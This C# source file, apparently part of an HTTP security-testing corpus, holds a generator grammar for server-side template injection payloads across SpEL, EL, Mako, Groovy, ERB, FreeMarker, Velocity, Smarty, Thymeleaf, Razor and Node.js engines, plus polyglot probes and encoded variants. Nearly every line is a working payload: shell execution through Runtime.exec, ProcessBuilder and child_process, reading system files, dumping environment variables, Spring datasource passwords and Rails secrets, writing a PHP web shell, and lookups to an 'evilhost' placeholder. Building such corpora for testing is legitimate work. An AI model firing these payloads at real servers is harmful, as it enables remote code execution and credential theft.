namespace Weir.Http.Corpus.Attacks;

/// <summary>Expressions of EL, SpEL, Mako, ERB, FreeMarker, Velocity, Smarty, Thymeleaf, Razor and engines of Node.js.</summary>
/// <remarks>OWASP WSTG-INPV-18, CAPEC-242, CWE-917, CWE-1336.</remarks>
internal static class SstiEngines
{
    public const string Text = """"
        ¶ ---- ${ } and #{ }: EL, SpEL, Mako, Groovy, JSF, Ruby, Pug ----
        §dollars
        6× «eldelim»
        2× ${«mako»}
        <%«¦!» import os %>${os.popen('«shellcmd»').read()}
        <% import os; x=os.popen('«shellcmd»').read() %>${x}
        2× ${«groovy»}
        2× #{«rubyexpr»}
        2× #{«pug»}
        #set ($e="«letter»")${«spel»}
        §eldelim
        4× ${«spel»}
        3× #{«spel»}
        2× *{«spel»}
        2× ${«el»}
        2× #{«el»}
        %{«el»}
        §spel
        5× T(java.lang.Runtime).getRuntime().exec('«shellcmd»')
        2× T(java.lang.Runtime).getRuntime().exec("«shellcmd»").«text¦waitFor()¦inputStream»
        2× T(java.lang.System).«getenv()¦getenv('«rand→upper»')¦getProperty('«user.dir¦os.name¦java.version»')¦exit(«num»)»
        T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(«#97-122»)«.concat(T(java.lang.Character).toString(«#97-122»))¦»)
        T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('«shellcmd»').getInputStream())
        new java.lang.ProcessBuilder(«{'«shellcmd»'}¦"«shellcmd»"¦new java.lang.String[]{'sh','-c','«shellcmd»'}»).start()
        new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('«shellcmd»').getInputStream()).next()
        T(java.lang.Class).forName('java.lang.Runtime')
        T(«java.lang.»Thread).sleep(«#1-30»000)
        T(java.nio.file.Files).«readAllLines¦lines»(T(java.nio.file.Paths).get('«unixfile»'))
        new String(T(java.nio.file.Files).readAllBytes(T(java.nio.file.Paths).get("«unixfile»")))
        T(java.net.InetAddress).getByName('«evilhost»')
        @environment.getProperty('«spring.datasource.password¦«word»»')
        T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('«shellcmd»').getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())
        T(javax.script.ScriptEngineManager).newInstance().getEngineByName('«nashorn¦js»').eval('«shellcmd→json»')
        §el
        3× «''¦""¦"a"¦1¦request¦«word»».getClass().forName(«"java.lang.Runtime"¦'java.lang.Runtime'»)«.getMethod("getRuntime",null).invoke(null,null).exec("«shellcmd»")¦.getRuntime().exec('«shellcmd»')¦.getMethods()[6].invoke(null).exec("«shellcmd»")»
        2× «''¦""¦"a"¦request».class.forName('java.lang.Runtime')«.getRuntime().exec('«shellcmd»')¦.getDeclaredMethods()[15].invoke(''.getClass().forName('java.lang.Runtime').getDeclaredMethods()[7].invoke(null),'«shellcmd»')»
        2× «sessionScope¦requestScope¦applicationScope¦header¦cookie¦paramValues¦pageContext.request.getSession()¦pageContext.request.getHeaderNames()¦pageContext.servletContext¦initParam»«¦.toString()¦['«word»']¦.setAttribute("a","".getClass().forName("java.util.ArrayList"))»
        facesContext.getExternalContext().«getResponse().addHeader("«rand»","«rand»")¦setResponseHeader("«rand»","«rand»")¦getSession(true)»
        request.getAttribute("«letter»").«invoke(null)¦add("«letter»")»
        request.setAttribute("«letter»","".getClass().forName("java.lang.ProcessBuilder").getDeclaredConstructors()[0].newInstance("«shellcmd»".split(" ")).start())
        ''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('«java.lang.Runtime.getRuntime().exec("«shellcmd»")¦«calcpart»»')
        «''¦"a"».getClass()«¦.getName()¦.getSuperclass()¦.getClassLoader()¦.forName("java.lang.System").getMethod("getProperty","".getClass()).invoke(null,"os.name")»
        «class.getResource("«¦../»index.htm«¦l»").getContent()¦class.getClassLoader()¦product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('«unixfile»').toURL().openStream().readAllBytes()?join(" ")»
        §mako
        2× self.module.«cache.util.os¦runtime.util.os¦cache.compat.inspect.os¦filters.compat.inspect.linecache.os».«system("«shellcmd»")¦popen("«shellcmd»").read()»
        self.«template.module.cache.util.os.system("«shellcmd»")¦template.__init__.__globals__['os'].popen('«shellcmd»').read()¦attr._NSAttr__parent.module.cache.util.os.system("«shellcmd»")¦context.«word»»
        __import__("os").popen("«shellcmd»").read()
        open("«unixfile»").read()
        loop.__class__.__init__.__globals__
        capture.__globals__
        context.kwargs
        §groovy
        3× "«shellcmd»".execute()«¦.text¦.getText()»
        new java.lang.String("«rand»")
        new File("«unixfile»").«text¦eachLine{println it}»
        new groovy.lang.GroovyClassLoader().parseClass("@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"«shellcmd»\")})def x")
        ['«sh¦/bin/bash»','-c','«shellcmd»'].execute().text
        java.lang.Runtime.getRuntime().exec("«shellcmd»")
        §rubyexpr
        2× system(«"«shellcmd»"¦'«shellcmd»'»)
        2× `«shellcmd»`
        %x(«shellcmd»)
        File.«open¦read¦readlines»('«unixfile»')«¦.read¦.join»
        IO.popen('«shellcmd»').readlines()
        exec("«shellcmd»")
        Dir.«entries('/')¦glob('/*')»
        require('open3')
        Kernel.«system¦exec¦spawn»("«shellcmd»")
        self«¦.class¦.methods¦.instance_variables¦.method(:handle_POST).to_proc»
        ENV«¦['«rand→upper»']¦.to_a»
        Rails.application.«secrets¦config.secret_key_base¦credentials»
        global_variables
        §pug
        2× «root.process.mainModule.require('child_process').spawnSync('«cat¦ls¦id»', ['«-la¦«unixfile»»']).stdout¦global.process.mainModule.constructor._load('child_process').exec('«shellcmd»')¦global.process.mainModule.require('child_process').execSync('«shellcmd»')»
        function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('«shellcmd»')}()
        «global¦this¦self».«process.env¦constructor.constructor("return «nodeexec→json»")()»
        JSON.stringify(«global¦process.env¦this»)

        ¶ ---- <% %>: ERB, EJS, ASP, JSP, Mako blocks ----
        §percents
        4× <%= «rubyexpr» %>
        2× <%= «nodeexec» %>
        <%- «nodeexec» %>
        <%= «File.open("«unixfile»").read¦IO.read('«unixfile»')¦`«shellcmd»`¦Dir.entries("/")¦system("«shellcmd»")» %>
        <% require 'open3' %><% @a,@b,@c,@d=Open3.popen3('«shellcmd»') %><%= @b.readline()%>
        <%= Runtime.getRuntime().exec("«shellcmd»") %>
        <% «Runtime.getRuntime().exec("«shellcmd»")¦out.println("«rand»")¦Response.Write("«rand»")¦Response.Write(«calcpart»)¦«word» = «calcpart»» «;¦»%>
        <%= CreateObject("Wscript.Shell").exec("«shellcmd»").StdOut.ReadAll() %>
        <%= «word» ? «calcpart» : 0 %>
        <%=«global.process.mainModule.require('child_process').execSync('«shellcmd»')¦perl code: `«shellcmd»`¦«phpcode»»%>
        <%! String x = "«rand»"; %><%= x %>
        - «`«shellcmd»`¦var x = root.process¦x = x.mainModule.require¦«calcpart»»
        §phpcode
        «phpfn»("«shellcmd»")
        phpinfo()

        ¶ ---- FreeMarker and Velocity ----
        §freemarker
        3× <#assign «$v:letter»«sp»=«sp»"freemarker.template.utility.Execute"?new()>«sp»${«sp»«$v»("«shellcmd»")«sp»}
        2× ${"freemarker.template.utility.Execute"?new()("«shellcmd»")}
        [#assign «$v:letter» = 'freemarker.template.utility.Execute'?new()]${«$v»('«shellcmd»')}
        <#assign «$v:letter»="freemarker.template.utility.ObjectConstructor"?new()>${«$v»("java.lang.ProcessBuilder","«shellcmd»").start()}
        <#assign «$v:letter»="freemarker.template.utility.JythonRuntime"?new()><@«$v»>import os;os.system("«shellcmd»")</@«$v»>
        ${"freemarker.template.utility.ObjectConstructor"?new()("java.io.File","«unixfile»")}
        <#assign cl=«word».class.«protectionDomain.classLoader¦getClassLoader()»><#assign owc=cl.loadClass("freemarker.template.ObjectWrapper")><#assign ec=cl.loadClass("freemarker.template.utility.Execute")>${owc.getField("DEFAULT_WRAPPER").get(null).newInstance(ec,null)("«shellcmd»")}
        ${«word».class.protectionDomain.codeSource.location.toURI().resolve('«unixfile»').toURL().openStream().readAllBytes()?join(" ")}
        <#if 1==1>«rand»</#if>
        <#include "«unixfile»">
        <#list .«data_model¦globals¦main»?keys as k>${k}</#list>
        ${.«version¦data_model¦main_template_name¦now»}
        #{«calcpart»;m«#1-9»}
        <#assign x=«calcpart»>${x}
        <#«--»${«calcpart»}-->
        ${"«rand»"?«upper_case¦length¦interpret¦eval¦api»}
        ${«word»?api.class.«protectionDomain¦getResource("/")»}
        §velocity
        2× #set(«sp»$«$v:word»«sp»=«sp»«"e"¦''¦""¦1»)«vnl»$«$v».getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("«shellcmd»")
        2× #set($str=$class.inspect("java.lang.String").type)«vnl»#set($chr=$class.inspect("java.lang.Character").type)«vnl»#set($ex=$class.inspect("java.lang.Runtime").type.getRuntime().exec("«shellcmd»"))«vnl»$ex.waitFor()
        $class.inspect("java.lang.«Runtime¦System¦ProcessBuilder»").type«.getRuntime().exec("«shellcmd»")«¦.waitFor()»¦»
        #set($«letter»=«calcpart»)«¦$»{«letter»}
        #set($«$v:letter»="")#set($rt=$«$v».class.forName("java.lang.Runtime"))#set($p=$rt.getRuntime().exec("«shellcmd»"))$p.inputStream
        $«request¦response¦application¦session¦context¦velocityCount».«getClass()¦class.classLoader¦getClass().forName('java.lang.Runtime')»
        #foreach($i in [1..«#9-99»])$out.read()#end
        #set($x='')#set($c=$x.class.forName('java.lang.ProcessBuilder').getConstructor($x.class).newInstance('«shellcmd»').start())
        #«include¦parse»("«unixfile»")
        #evaluate("«calcpart»")
        #if(«num»==«num»)«rand»#end
        §vnl
        2×
        ␤
        ␠

        ¶ ---- Smarty, Blade, Latte, Plates ----
        §smarty
        3× {«phpfn»('«shellcmd»')}
        2× {php}«phpfn»('«shellcmd»');{/php}
        2× {$smarty.«version¦template¦server.«rand→upper»¦template_object->smarty->disableSecurity()->display('string:{«phpfn»(\'«shellcmd»\')}')¦env.PATH¦const.«rand→upper»¦now¦current_dir»}
        {Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php «phpfn»($_GET['cmd']); ?>",self::clearConfig())}
        {self::getStreamVariable("file://«unixfile»")}
        {if «phpfn»('«shellcmd»')}{/if}
        {literal}«calcpart»{/literal}
        {fetch file="«unixfile»"}
        {include file="«unixfile»"}
        {math equation='("\163\171\163\164\145\155")("«shellcmd→slasho»")'}
        {"«shellcmd»"|«phpfn»}
        {assign var="«letter»" value="«shellcmd»"}{$«letter»|«phpfn»}
        {{ «phpfn»('«shellcmd»') }}
        {!! «phpfn»('«shellcmd»') !!}
        @php «phpfn»('«shellcmd»') @endphp
        {=«phpfn»('«shellcmd»')}
        {$«letter»=«calcpart»}
        {var $x = «phpfn»('«shellcmd»')}{$x}
        {function name='x(){};«phpfn»("«shellcmd»");function «rand»'}{/function}

        ¶ ---- Thymeleaf, Struts and JSF views ----
        §thymeleaf
        3× __${«spel»}__::«¦.x¦«rand»»
        2× [[${«spel»}]]
        [(${«spel»})]
        <«div¦a¦p¦span» th:«text¦utext¦inline¦href¦remove»="${«spel»}">«¦«word»</a>»
        ~{«word»::${«spel»}}
        *{T(org.thymeleaf.«rand»)}
        ::__${«spel»}__
        __$%7b«spel→url»%7d__::«.x¦»
        ${«#uris¦#strings¦#execInfo¦#ctx¦#vars¦#request»«¦.«rand»()»}
        %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('«shellcmd»'))}
        <h:outputText value="#{«el»}"/>

        ¶ ---- Razor, Liquid, DotLiquid ----
        §razor
        3× @(«calcpart»)
        2× @{«System.Diagnostics.Process.Start("cmd.exe","/c «shellcmd»");¦var x=«calcpart»;¦ // C# code¦System.IO.File.ReadAllText("«winfile→json»");»}
        @System.«Diagnostics.Process.Start("«cmd.exe","/c echo «rand» > C:/Windows/Tasks/«rand».txt¦«shellcmd»»")¦IO.File.ReadAllText("«unixfile»")¦Environment.GetEnvironmentVariables()¦DateTime.Now»
        @(«Model¦ViewBag¦Context¦Html».«GetType().Assembly¦ToString()¦Request.ServerVariables»)
        @Html.Raw(«"<script>alert(1)</script>"¦«calcpart»»)
        @inherits «System.»Object
        @using System.Diagnostics
        {{ '«letter»' | «append: '«letter»'¦upcase¦times: «num»¦plus: «num»» }}
        {{ site.«__dir__¦config¦password» }}
        {{ «num» | «times¦plus¦minus¦modulo»: «num» }}
        {% assign «letter» = «num» | times: «num» %}{{ «letter» }}
        {% include '«unixfile»' %}

        ¶ ---- engines of Node.js and others with their own marks ----
        §nodeengines
        2× {{= «nodeexec» }}
        <%= «elixir» %>
        {{ «oracle» }}
        ${«oracle»}
        <%= «oracle» %>
        {%«¦-» if «oracle» %}«rand»{% endif %}
        {{= global.process.mainModule.require('child_process').execSync('«shellcmd»') }}
        {@exec str='«shellcmd»'/}
        ${«nodeexec»}
        `${«nodeexec»}`
        ${require('child_process').execSync('«shellcmd»')}
        - var x = root.process.mainModule.require('child_process').«exec¦execSync»('«shellcmd»')
        != «nodeexec»
        = «nodeexec»
        <%«nodeexec»%>
        {{{ «nodeexec» }}}
        {{#exec}}«shellcmd»{{/exec}}
        {{constructor.constructor('«alert(1)¦return process.env»')()}}
        {{$on.constructor('«alert(1)¦return 1»')()}}
        {{toString.constructor.prototype.«rand»=«num»}}
        {«calcpart»|«rand»}
        {{_openBlock.constructor('«alert(1)¦return this.process»')()}}
        settings[view options][outputFunctionName]=x;«nodeexec»;s
        __proto__.outputFunctionName=x;«nodeexec»;x
        §elixir
        System.«shell("«shellcmd»")¦cmd("«catcmd»", ["«unixfile»"])¦halt()¦get_env()»«¦|> elem(0)»
        «File.read!("«unixfile»")¦:os.cmd('«shellcmd»')¦Code.eval_string("«calcpart»")»
        [«num», «num»][elem(System.shell("«shellcmd»"), «0¦1»)]
        §catcmd
        «cat¦head¦tail»
        §oracle
        1/(«truth»)
        [«num»][«truth»]
        («truth») ? «num» : "«rand»"
        "«rand»"+(«truth»)
        ''.join(«truth»)
        «truth» or 1/0
        («truth» and 'a') or 1/0
        getattr("", "«rand»"+(«truth»))
        File.read("«rand»"+(«truth»).to_s)
        cycler.__init__.__globals__.os.popen('«shellcmd»').read()
        §truth
        «num»==«num»
        __import__("os").popen("«shellcmd»").read()«¦ == "«rand»"»
        cycler.__init__.__globals__.os.popen("«shellcmd»")._proc.wait() == 0
        system("«shellcmd»") == 0
        `«shellcmd»`.length == «num»
        T(java.lang.Runtime).getRuntime().exec("«shellcmd»").waitFor()==0
        "«shellcmd»".execute().waitFor()==0
        require('child_process').spawnSync('«shellcmd»').status===0
        include("«rand»").length
        «calcpart»==«num»
        §polyglot
        2× ${{<%[%'"}}%\«¦.¦,»
        «$p:calcpart»}}${«$p»}#{«$p»}<%= «$p» %>{{«$p»
        {{«$c:calcpart»}}${«$c»}<%= «$c» %>${{«$c»}}#{«$c»}«¦*{«$c»}»«¦@(«$c»)»
        «{{¦${¦<%=¦#{¦{%¦@(¦*{¦[[»'"`«}}¦}¦%>¦)¦]]»«rand?»
        «{{¦${¦#{¦<%»«rand»«¦'"¦/*¦}}'"`¦}»
        {{1/0}}«¦${1/0}»«¦<%= 1/0 %>»
        }}«¦{{¦${{»«calcpart»«'}¦]]¦%>»
        «{#¦<#--¦##¦/*¦<%#» «rand» «#}¦-->¦*/¦%>»{{«calcpart»}}
        (1/0).zxy.zxy
        «''¦""¦[]».«rand».«rand»}}
        {{«word».«rand».«rand»()}}
        ${«rand».«rand».«rand»()}

        §wrapped
        2× «word» {{«jinja»}}
        {"«param»":"«core→json»"}
        «param»=«core»
        «core»@«word».com
        "«core»"
        «word»"+«core»+"
        <p>«core»</p>
        /«word»/«core»
        «word»}}«core»
        {% raw %}{% endraw %}«core»
        §core
        3× «sum»
        3× {{«jinja»}}
        2× ${«spel»}
        {{«twig»}}
        <%= «rubyexpr» %>
        «freemarker»
        «velocity»
        «smarty»
        §encoded
        3× «core→url»
        «core→urlsome»
        «core→urltwice»
        «core→entsome»
        «core→slashusome»
        «core→plus»
        «core→b64»
        """";
}
